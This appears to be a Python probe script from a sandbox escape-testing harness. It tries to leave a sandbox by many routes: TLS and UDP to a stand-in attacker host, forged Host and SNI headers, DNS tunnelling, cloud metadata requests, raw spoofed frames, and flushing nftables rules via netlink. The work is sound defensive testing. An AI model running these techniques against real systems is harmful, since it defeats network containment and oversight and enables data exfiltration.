"""The probes that try the ways out. Standard library only, any Python from 3.9, because they run inside sandboxes.

    python3 ways_out.py one NAME      try one way, or all at once; print `report JSON` at the end
    python3 ways_out.py serve         read names on standard input, answer each with `report JSON` or `failed NAME WHY`

- A probe is a set of tries. Each try is reported, by `PROBE/TRY`, as `sent`, `done` or `opened` (with the answer), or
  as `refused` with the name of the error.
- Only an error of the system is a refusal. Any other exception ends the program with a traceback and no report.
- A report proves only that the probe ran. Arrival at the other end decides. Only the `kernel` probes, which never leave
  the machine, are judged by their own report.
"""

from __future__ import annotations

import base64
import ctypes
import errno
import json
import os
import socket
import ssl
import struct
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

TARGETS: dict[str, Any] = json.loads(os.environ.get("PROBE_TARGETS", "{}"))
WAIT = 0.6
MARKER = str(TARGETS.get("marker", "sallyport-probe-marker")).encode()
HOST_PORTS = (2375, 8080)
"""Ports of the host's own services."""
_CREATE = 0x605  # The flags of a netlink request: acknowledge, create, fail if it exists.
_ADDRESS_ERRORS = {getattr(socket, name): name for name in dir(socket) if name.startswith("EAI_")}

Try = Callable[[], str]


def tcp(address: str, port: int, data: bytes = MARKER, mark: int | None = None) -> str:
    """Connect, send, and read the answer."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT)
        if mark is not None:
            sock.setsockopt(socket.SOL_SOCKET, 36, mark)
        sock.connect((address, port))
        sock.sendall(data)
        return answered(sock)


def answered(sock: socket.socket) -> str:
    """Wait for the answer to sent data, and return a description of the answer."""
    try:
        return f"sent, {len(sock.recv(4096))} bytes back"
    except OSError as error:
        return f"sent, {reason(error)}"


def udp(address: str, port: int, data: bytes = MARKER) -> str:
    """Send one datagram without waiting for an answer."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(data, (address, port))
    return "sent"


def tls(address: str, port: int, name: str | None) -> str:
    """Make a TLS handshake and one request. With `name` None there is no SNI."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    raw = socket.create_connection((address, port), timeout=WAIT)
    with raw, context.wrap_socket(raw, server_hostname=name) as sock:
        sock.sendall(b"GET /probe HTTP/1.1\r\nHost: %s\r\n\r\n" % (name or address).encode())
        return answered(sock)


def resolve(name: str) -> str:
    """Return an address of `name` from the resolver of this place."""
    return str(socket.getaddrinfo(name, None, socket.AF_INET)[0][4][0])


def query(name: str, kind: int = 1) -> bytes:
    """Return the DNS query for `name`, as bytes."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 4242, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def netlink(protocol: int, *messages: bytes) -> str:
    """Send messages as one datagram to the kernel, and wait for the first acknowledgement."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as sock:
        sock.settimeout(WAIT)
        sock.send(b"".join(messages))
        number = -struct.unpack_from("<i", sock.recv(4096), 16)[0]
    if number:
        raise OSError(number, os.strerror(number))
    return "done"


def message(kind: int, flags: int, body: bytes) -> bytes:
    """Return a netlink message."""
    return struct.pack("<IHHII", 16 + len(body), kind, flags, 1, 0) + body


def reason(error: OSError) -> str:
    """Return the name of an error."""
    if isinstance(error, socket.gaierror):
        return _ADDRESS_ERRORS.get(error.errno or 0, "EAI")
    if isinstance(error, ssl.SSLError):
        return f"TLS {error.reason or type(error).__name__}"
    if isinstance(error, socket.timeout):
        return "ETIMEDOUT"
    return errno.errorcode.get(error.errno or 0, type(error).__name__)


def to_metadata(data: Callable[[], bytes]) -> Try:
    return lambda: tcp(TARGETS["metadata"], 80, data())


def to_attacker(port: int, mark: int | None = None) -> Try:
    return lambda: tcp(TARGETS["attacker"], port, mark=mark)


def forged_host(form: bytes) -> Try:
    def send() -> str:
        named, allowed = TARGETS["attacker_name"].encode(), TARGETS["allowed_name"].encode()
        return tcp(TARGETS["attacker"], 80, form % {b"attacker": named, b"allowed": allowed})

    return send


def icmp(kind: int) -> Try:
    """Return a try that sends an ICMP echo request with a payload."""

    def checksum(data: bytes) -> int:
        total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
        total = (total >> 16) + (total & 0xFFFF)
        return ~(total + (total >> 16)) & 0xFFFF

    def send() -> str:
        body = struct.pack("!HH", 1, 1) + MARKER
        packet = struct.pack("!BBH", 8, 0, 0) + body
        packet = struct.pack("!BBH", 8, 0, checksum(packet)) + body
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
            sock.sendto(packet, (TARGETS["attacker"], 0))
        return "sent"

    return send


def enable_ipv6(place: str) -> str:
    with open(f"/proc/sys/net/ipv6/conf/{place}/disable_ipv6", "w") as setting:
        setting.write("0")
    return "done"


def ipv6_address() -> str:
    """Give the interface another address, without a check for duplicates."""
    index = socket.if_nametoindex(TARGETS["interface"])
    address = socket.inet_pton(socket.AF_INET6, "2606:2800:222::2")
    body = struct.pack("<BBBBI", socket.AF_INET6, 64, 2, 0, index)
    body += b"".join(struct.pack("<HH", 20, kind) + address for kind in (1, 2))
    return netlink(0, message(20, _CREATE, body))


def ipv6_route() -> str:
    """Make the interface the default route."""
    index = socket.if_nametoindex(TARGETS["interface"])
    body = struct.pack("<BBBBBBBBI", socket.AF_INET6, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("<HHI", 8, 4, index)
    return netlink(0, message(24, _CREATE, body))


def tunnel_query(kind: int = 1) -> bytes:
    return query(tunnel_name(), kind)


def tunnel_name() -> str:
    return f"{MARKER.hex()[:40]}.{TARGETS['tunnel_zone']}"


def tunnel_by(server: str) -> dict[str, Try]:
    """Return the tries that query one server for names with data in them."""

    def framed() -> str:
        asked = tunnel_query()
        return tcp(TARGETS[server], 53, struct.pack("!H", len(asked)) + asked)

    return {
        f"A to the {server}": lambda: udp(TARGETS[server], 53, tunnel_query()),
        f"TXT to the {server}": lambda: udp(TARGETS[server], 53, tunnel_query(16)),
        f"TCP to the {server}": framed,
    }


def host_port(address: str, port: int) -> Try:
    return lambda: tcp(TARGETS["host"] if address == "host" else address, port)


def raw_frame(destination: str, everyone: bool = False) -> str:
    """Send hand-made frames to the gateway or by broadcast: UDP to `destination`, also from a foreign address."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((TARGETS["interface"], 0x0800))
        own = sock.getsockname()[4]
        gateway = (
            bytes.fromhex(TARGETS["gateway_mac"].replace(":", ""))
            if TARGETS.get("gateway_mac") and not everyone
            else b"\xff" * 6
        )
        for source in (TARGETS["inside"], "93.184.216.99"):
            body = struct.pack("!HHHH", 4242, 9999, 8 + len(MARKER), 0) + MARKER
            header = bytearray(
                struct.pack(
                    "!BBHHHBBH4s4s",
                    0x45,
                    0,
                    20 + len(body),
                    1,
                    0,
                    64,
                    17,
                    0,
                    socket.inet_aton(source),
                    socket.inet_aton(destination),
                )
            )
            total = sum(struct.unpack("!10H", header))
            total = (total >> 16) + (total & 0xFFFF)
            struct.pack_into("!H", header, 10, ~(total + (total >> 16)) & 0xFFFF)
            sock.send(gateway + own + b"\x08\x00" + bytes(header) + body)
    return "sent"


def flush_rules() -> str:
    """Remove every table of nftables here, as `nft flush ruleset` does."""
    batch = struct.pack(">BBH", 0, 0, 10)
    return netlink(12, message(0x10, 1, batch), message(0xA02, 5, bytes(4)), message(0x11, 1, batch))


def after_a_flush(attempt: Try) -> Try:
    def send() -> str:
        flush_rules()
        return attempt()

    return send


def af_vsock() -> str:
    with socket.socket(40, socket.SOCK_STREAM):
        return "opened"


def io_uring() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    fd = libc.syscall(425, 4, parameters)
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.close(fd)
    return "opened"


PROBES: dict[str, dict[str, Try]] = {
    "by-name": {"TLS": lambda: tls(resolve(TARGETS["attacker_name"]), 443, TARGETS["attacker_name"])},
    "by-address": {
        "TLS without SNI": lambda: tls(TARGETS["attacker"], 443, None),
        "TLS with SNI": lambda: tls(TARGETS["attacker"], 443, TARGETS["attacker_name"]),
    },
    "by-port": {str(port): to_attacker(port) for port in (22, 80, 8443)},
    "forged-host": {
        "Host": forged_host(b"GET / HTTP/1.1\r\nHost: %(allowed)s\r\n\r\n"),
        "absolute target": forged_host(b"GET http://%(attacker)s/ HTTP/1.1\r\nHost: %(allowed)s\r\n\r\n"),
    },
    "forged-sni": {
        "443": lambda: tls(TARGETS["attacker"], 443, TARGETS["allowed_name"]),
        "8443": lambda: tls(TARGETS["attacker"], 8443, TARGETS["allowed_name"]),
    },
    "udp": {
        "53": lambda: udp(TARGETS["attacker"], 53),
        "443": lambda: udp(TARGETS["attacker"], 443),
        "9999": lambda: udp(TARGETS["attacker"], 9999),
    },
    "quic": {"Initial": lambda: udp(TARGETS["attacker"], 443, base64.b64decode(TARGETS["quic_initial"]))},
    "icmp": {"raw socket": icmp(socket.SOCK_RAW), "ping socket": icmp(socket.SOCK_DGRAM)},
    "ipv6": {
        "enable everywhere": lambda: enable_ipv6("all"),
        "enable": lambda: enable_ipv6(TARGETS["interface"]),
        "address": ipv6_address,
        "route": ipv6_route,
        "TLS": lambda: tls(TARGETS["attacker_v6"], 443, TARGETS["attacker_name"]),
        "UDP": lambda: udp(TARGETS["attacker_v6"], 9999),
    },
    "dns-over-tls": {"TLS": lambda: tls(TARGETS["attacker"], 853, TARGETS["attacker_name"])},
    "dns-tunnel": {
        "resolve": lambda: f"done, {resolve(tunnel_name())}",
        **tunnel_by("resolver"),
        **tunnel_by("attacker"),
        **tunnel_by("dns"),
    },
    "metadata": {
        "its Host": to_metadata(lambda: b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
        "allowed Host": to_metadata(lambda: b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % TARGETS["allowed_name"].encode()),
        "TLS": lambda: tls(TARGETS["metadata"], 443, "rebind.bank.example"),
    },
    "host-ports": {
        f"{address} {port}": host_port(address, port)
        for address in ("host", "127.0.0.1", "172.17.0.1")
        for port in HOST_PORTS
    },
    "gateway-ports": {
        "8080": lambda: tcp(TARGETS["gateway"], 8080),
        "15001": lambda: tcp(TARGETS["gateway"], 15001),
        "15002": lambda: tcp(TARGETS["gateway"], 15002),
        "22": lambda: tcp(TARGETS["gateway"], 22),
    },
    "neighbour": {
        "its address": lambda: udp("192.0.2.2", 9999),
        "broadcast": lambda: udp("192.0.2.3", 9999),
        "its daemon": lambda: tcp("192.0.2.1", 44772),
        "its gateway": lambda: udp("192.0.2.1", 9999),
        "frames": lambda: raw_frame("192.0.2.2", everyone=True),
    },
    "so-mark": {f"{mark:#x}": to_attacker(22, mark) for mark in (1, 0x15001, 0x7FFFFFFF)},
    "af-packet": {"frames": lambda: raw_frame(TARGETS["attacker"])},
    "nft-flush": {
        "then TCP": after_a_flush(to_attacker(22)),
        "then UDP": after_a_flush(lambda: udp(TARGETS["attacker"], 9999)),
    },
    "af-vsock": {"socket": af_vsock},
    "io-uring": {"ring": io_uring},
}


_IN_ORDER = frozenset({"ipv6"})
"""Probes whose earlier tries prepare the later ones."""


def labels(name: str) -> list[str]:
    """Return the keys in the report of one probe, or of `all`."""
    return [f"{probe}/{label}" for probe in (PROBES if name == "all" else (name,)) for label in PROBES[probe]]


def attempt(name: str) -> dict[str, str]:
    """Run one probe, or `all` of them at once. Return the result of each try, in order."""
    if name == "all":
        with ThreadPoolExecutor(len(PROBES)) as pool:
            return {label: outcome for seen in pool.map(attempt, PROBES) for label, outcome in seen.items()}
    # Concurrently, because most tries wait for an answer that never comes.
    with ThreadPoolExecutor(1 if name in _IN_ORDER else len(PROBES[name])) as pool:
        return dict(zip(labels(name), pool.map(tried, PROBES[name].values())))  # noqa: B905 - Python 3.9 has no strict


def tried(one: Try) -> str:
    """Return the result of one try."""
    try:
        return one()
    except OSError as error:
        return f"refused {reason(error)}"


def main() -> None:
    if sys.argv[1] == "one":
        print("report", json.dumps(attempt(sys.argv[2])), flush=True)
        return
    for line in sys.stdin:
        name = line.strip()
        try:
            print("report", json.dumps(attempt(name)), flush=True)
        except Exception as error:  # noqa: BLE001 - the caller gets it, and treats it as a failure
            print("failed", name, repr(error).replace("\n", " "), flush=True)


if __name__ == "__main__":
    main()
